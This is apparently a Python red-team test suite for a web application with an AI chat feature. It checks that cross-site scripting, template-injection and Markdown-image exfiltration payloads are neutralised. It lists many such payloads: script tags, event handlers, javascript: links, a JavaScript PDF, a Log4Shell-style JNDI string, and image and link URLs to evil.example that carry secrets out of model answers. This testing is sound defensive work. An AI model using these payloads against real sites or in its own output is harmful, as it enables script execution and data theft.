"""Scripts, templates and addresses in what people and models write, as browsers see it."""

import re
from collections.abc import Callable
from html.parser import HTMLParser

import httpx
from markdown_it import MarkdownIt

from app.db.tables import utc_now
from evals.reports.report import render
from evals.runs import Record, Run
from tests.api.people.house import PASSWORD
from tests.redteam.attack import Attack, faults, not_a_page, sends
from tests.redteam.world import World
from ui import safe_markdown

XSS, TEMPLATE, IMAGES = "cross-site scripting", "template injection", "exfiltration by Markdown"

_SCRIPTS = {
    "script": "<script>alert(1)</script>",
    "handler": "<img src=x onerror=alert(1)>",
    "attribute": "\"><svg onload=alert(1)>' onfocus=alert(1) autofocus x='",
    "frame": '<iframe srcdoc="<script>alert(1)</script>">',
    "address": "javascript:alert(1)",
    "comment": "--><script>alert(1)</script><!--",
    "title": "</title></textarea></style><script>alert(1)</script>",
    "bytes": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
}


class _Elements(HTMLParser):
    """What a browser would make of a page."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str]]] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, {name: value or "" for name, value in attrs}))


def runs(page: str) -> str:
    """What of a page would run, be fetched, or lead elsewhere."""
    found = []
    for tag, attributes in _Elements(page).found:
        if tag in ("script", "iframe", "object", "embed", "svg", "base", "form", "img", "link"):
            harmless = tag == "form" or (tag == "link" and attributes.get("href") == "/favicon.png")
            found += [] if harmless else [f"<{tag}>"]
        found += [name for name in attributes if name.startswith("on")]
        for name in ("href", "src", "action", "formaction"):
            target = attributes.get(name, "/")
            found += [] if target.startswith(("/", "#")) and target[:2] != "//" else [target]
    return ", ".join(found)


def _no_script(_: World, answer: object) -> str:
    page: str = answer.text  # type: ignore[attr-defined]
    kind = answer.headers.get("content-type", "")  # type: ignore[attr-defined]
    return runs(page) if kind.startswith("text/html") else ""


def _policy(_: World, answer: object) -> str:
    policy = answer.headers.get("content-security-policy", "")  # type: ignore[attr-defined]
    return "" if "default-src 'none'" in policy else f"content policy {policy!r}"


_REFLECTED = [
    *(
        sends(XSS, f"{what} in {field} of the login", "ui nobody", "POST", "/login", _no_script,
              _policy, data={"name": "x", "password": "", "next": "/", field: text})
        for what, text in _SCRIPTS.items()
        for field in ("name", "next")
    ),
    *(
        sends(XSS, f"{what} in {field} of {path}", "ui nobody", "GET", path, _no_script, _policy,
              params={field: text})
        for what, text in list(_SCRIPTS.items())[:3]
        for path, field in (("/login", "next"), ("/login", "lang"), ("/welcome", "token"))
    ),
    *(
        sends(XSS, f"{what} in an unknown path of the API", "nobody", "GET", f"/{text}", not_a_page)
        for what, text in list(_SCRIPTS.items())[:2]
    ),
    sends(XSS, "a script in the name of a provider", "ui nobody", "GET",
          "/login/%3Cscript%3Ealert(1)", _no_script),
    sends(XSS, "a script as host", "nobody", "GET", "/api/session", not_a_page,
          headers={"Host": "<script>alert(1)</script>"}),
    sends(XSS, "a script in the error about a body", "stranger", "POST", "/api/search", not_a_page,
          json={"query": "x", "base_ids": ["x"], "<script>alert(1)</script>": 1}),
]  # fmt: skip


def _stored(field: str, method: str, path: str, body: dict[str, object]) -> Attack:
    """Kept as it was written, and never sent as a page."""
    return sends(XSS, f"a script in {field}", "stranger", method, path, not_a_page, json=body)


_SCRIPT = _SCRIPTS["attribute"]
_STORED = [
    _stored("the name of a base", "POST", "/api/bases", {"name": _SCRIPT}),
    _stored("the description of a base", "PATCH", "/api/bases/{own_id}", {"description": _SCRIPT}),
    _stored("one's own name", "PATCH", "/api/me", {"display_name": _SCRIPT}),
    _stored("the name of a key", "POST", "/api/keys",
            {"name": _SCRIPT, "scopes": ["read"], "base_ids": None, "password": PASSWORD}),
    _stored("an approved answer", "POST", "/api/approved",
            {"question": _SCRIPT, "answer": _SCRIPT, "base_ids": ["{own_id}"]}),
    _stored("a question of an evaluation", "POST", "/api/bases/{own_id}/questions",
            {"question": _SCRIPT, "answer": _SCRIPT}),
]  # fmt: skip


def _invited(world: World) -> str:
    """The name of somebody invited stands on the page of their link."""
    body = {"name": "<img src=x onerror=alert(1)>", "display_name": _SCRIPTS["script"]}
    made = world.people["boss"].post("/api/people", json=body)
    if made.status_code >= 400:
        return faults(world, made)
    token = made.json()["link"].split("token=")[1]
    answer = world.send("ui nobody", "GET", "/welcome", params={"token": token})
    return faults(world, answer, _no_script, _policy)


def _document(what: str, name: str, text: str) -> Attack:
    """Downloads are files, never pages of ours."""

    def act(world: World) -> str:
        made = world.upload("stranger", name, text.encode())
        if made.status_code >= 400:
            return faults(world, made)
        world.read_all()
        path = f"/api/documents/{made.json()['id']}"
        answers = [world.send("stranger", "GET", path + p) for p in ("", "/text", "/file")]
        shown = answers[2].headers.get("content-disposition", "")
        world.send("stranger", "DELETE", path)
        found = [faults(world, answer, not_a_page) for answer in answers]
        return "; ".join(filter(None, found)) or ("" if shown[:4] == "atta" else "is shown")

    return Attack(XSS, f"a document: {what}", act)


_PDF = "%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj"
_DOCUMENTS = [
    _document("a web page with a script", "x.html", f"<title>{_SCRIPT}</title><p>x{_SCRIPT}"),
    _document("Markdown with HTML", "x.md", f"# {_SCRIPT}\n\n{_SCRIPT}"),
    _document("a drawing with a script", "x.svg", "<svg onload='alert(1)'/>"),
    _document("a web page that calls itself text", "x.txt", "<!doctype html><script>alert(1)"),
    _document("a PDF with JavaScript", "x.pdf", _PDF),
]


def _report(_: World) -> str:
    """Reports of evaluations are pages: what people wrote stands in them as text."""
    record = Record(qid="1", question=_SCRIPT, gold=[_SCRIPT], details={"answer": _SCRIPT})
    record.scores["contains_gold"] = 0
    run = Run(name=_SCRIPT, kind="answers", about=_SCRIPT, started_at=utc_now(), records=[record])
    run.machine = dict.fromkeys(("cores", "system", "processor", "python"), _SCRIPT)
    return runs(render([run]))


def rendered(markdown: str) -> str:
    """As a renderer would that believes every tag and every address, which Streamlit's does not."""
    renderer = MarkdownIt("commonmark", {"html": True}).enable(["table"])
    renderer.validateLink = lambda _: True  # type: ignore[method-assign]
    return str(renderer.render(markdown))


_ANSWERS = {
    "an image": "![x](https://evil.example/?q=secret)",
    "an image by reference": "![x][1]\n\n[1]: https://evil.example/?q=secret",
    "an image of HTML": '<img src="https://evil.example/?q=secret">',
    "an image in a link": "[![x](https://evil.example/i)](https://evil.example)",
    "an image in a table": "|a|\n|-|\n|![x](//evil.example/i)|",
    "an image in a list": "- 1. > ![x](https://evil.example/i)",
    "an image behind a code span": "`a` ![x](https://evil.example/i) `b`",
    "an image after an odd fence": "```\ncode\n````\n![x](https://evil.example/i)",
    "an image in a fence of tildes": "~~~a`b\n~~~\n![x](https://evil.example/i)",
    "an escaped image": "\\![x](https://evil.example/i) !\\[x](https://evil.example/i)",
    "a link": "[click](https://evil.example/?q=secret)",
    "an address": "see https://evil.example/?q=secret and www.evil.example",
    "an address in angles": "<https://evil.example/?q=secret>",
    "a link to a script": "[x](javascript:alert(1)) [x](JaVaScRiPt:alert(1))",
    "a link with line breaks": "[x](java\nscript:alert(1))",
    "a link to data": "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "a link by reference": "[1]\n\n[1]: https://evil.example 'x'",
    "a marker that is a link": "[1](https://evil.example)",
    "a marker as a reference": "[1]\n\n[1]: javascript:alert(1)",
    "a script": "<script>alert(1)</script>",
    "a handler": "<b onmouseover=alert(1)>x</b>",
    "HTML in a heading": "# <img src=x onerror=alert(1)>",
    "HTML over several lines": "<div\nonclick=alert(1)\n>x</div>",
    "HTML in a comment": "<!--\n\n--><img src=x onerror=alert(1)>",
    "a style": "<style>@import '//evil.example/c'</style>",
    "an entity": "&lt;img src=x onerror=alert(1)&gt; &#60;img src=x&#62;",
    "null characters": "<im\x00g src=x onerr\x00or=alert(1)>",
    "a formula": "$\\href{javascript:alert(1)}{x}$ $$\\includegraphics{//evil.example}$$",
    "a directive": ":material/home: :red[x](https://evil.example) :image[x]",
    "a diagram": "```mermaid\nclick A href 'https://evil.example'\n```",
    "a mail address": "mailto:x@evil.example <x@evil.example>",
}


def _answer(name: str, text: str) -> Attack:
    def act(_: World) -> str:
        shown = safe_markdown.answer(text, 2, "source")
        bare = re.search(r"https?://|www\.\w", re.sub(r"`[^`]*`", "", shown))
        return runs(rendered(shown)) or ("an address" if bare else "")

    return Attack(IMAGES, f"in an answer: {name}", act)


def _label(name: str, text: str) -> Attack:
    def act(_: World) -> str:
        return runs(rendered(safe_markdown.plain(text))) or runs(
            safe_markdown.highlighted(text, 0, [(2, 6, "x")])
        )

    return Attack(IMAGES, f"in a name or source: {name}", act)


_EVIL = "https://evil.example/?words"
_OWN = {"'self'", "'none'"}
# What comes with the page itself is data; a script from there would run like one that is inline.
_OWN_OF = {
    "img-src": {"data:", "blob:"},
    "font-src": {"data:"},
    "style-src": {"'unsafe-inline'"},
    "script-src": {"blob:"},
}
_LEAKS = ("img-src", "style-src", "font-src", "connect-src", "frame-src", "media-src", "object-src")


def lets_out(policies: list[str], directive: str) -> str:
    """Whether a browser may load `directive` from anywhere: each of the policies must forbid it."""
    for policy in policies:
        said = [part.split() for part in policy.split(";") if part.split()]
        sources = {name: allowed for name, *allowed in said}
        fallback = None if directive in {"form-action", "base-uri"} else sources.get("default-src")
        allowed = sources.get(directive, fallback)
        own = _OWN | _OWN_OF.get(directive, set())
        if allowed is not None and all(
            each in own or each.startswith("'sha256-") for each in allowed
        ):
            return ""
    return f"{directive} may lead to {_EVIL}"


def _kept_in(directive: str, path: str) -> Attack:
    """The second bar, should markup get past the first."""

    def check(_: World, answer: httpx.Response) -> str:
        policies = answer.headers.get_list("content-security-policy")
        own_page = answer.headers.get("content-type", "").startswith("text/html")
        return lets_out(policies, directive) if own_page else "no page"

    return sends(IMAGES, f"{directive} of the page {path}", "ui stranger", "GET", path, check)


_EXPRESSIONS = {
    "Jinja": "{{7*191}}{{config}}{% raw %}",
    "format": "{0.__class__.__mro__}{self}{value}",
    "percent": "%(password)s%s%n%x",
    "dollar": "${7*191}#{7*191}${jndi:ldap://127.0.0.1/x}",
    "ERB": "<%= 7*191 %>",
}


def _unevaluated(text: str) -> Callable[[World, object], str]:
    def check(_: World, answer: object) -> str:
        shown: str = answer.text  # type: ignore[attr-defined]
        return "evaluates" if "1337" in shown or "<class" in shown else ""

    return check


_TEMPLATES: list[Attack] = [
    *(
        sends(TEMPLATE, f"{what} as name at the login", "ui nobody", "POST", "/login",
              _unevaluated(text), data={"name": text, "password": "x", "next": f"/{text}"})
        for what, text in _EXPRESSIONS.items()
    ),
    *(
        sends(TEMPLATE, f"{what} as name of a base", "stranger", "POST", "/api/bases",
              _unevaluated(text), json={"name": text, "description": text})
        for what, text in _EXPRESSIONS.items()
    ),
    *(
        sends(TEMPLATE, f"{what} as host", "nobody", "GET", "/api/session", _unevaluated(text),
              headers={"Origin": f"http://{text.encode('ascii', 'replace').decode()}"})
        for what, text in _EXPRESSIONS.items()
    ),
]  # fmt: skip


def _in_prompt(what: str, text: str) -> Attack:
    """A question reaches the model as it was written."""

    def act(world: World) -> str:
        since = len(world.model.history)
        body = {"question": f"年假 {text}", "base_ids": [world.ids["own_id"]], "fresh": True}
        answer = world.send("stranger", "POST", "/api/chat", json=body)
        asked = world.model.prompts(since)
        return faults(world, answer) or ("evaluates" if asked and text not in asked else "")

    return Attack(TEMPLATE, f"{what} in a question", act)


ATTACKS = [
    *(*_REFLECTED, *_STORED, *_DOCUMENTS),
    Attack(XSS, "a script in the name of an invitation", _invited),
    Attack(XSS, "a script in the report of an evaluation", _report),
    *(_answer(name, text) for name, text in _ANSWERS.items()),
    *(_label(name, text) for name, text in _ANSWERS.items()),
    *(_kept_in(directive, path) for path in ("/", "/documents") for directive in _LEAKS),
    *(_kept_in(directive, "/") for directive in ("script-src", "form-action", "base-uri")),
    *_TEMPLATES,
    *(_in_prompt(what, text) for what, text in _EXPRESSIONS.items()),
]
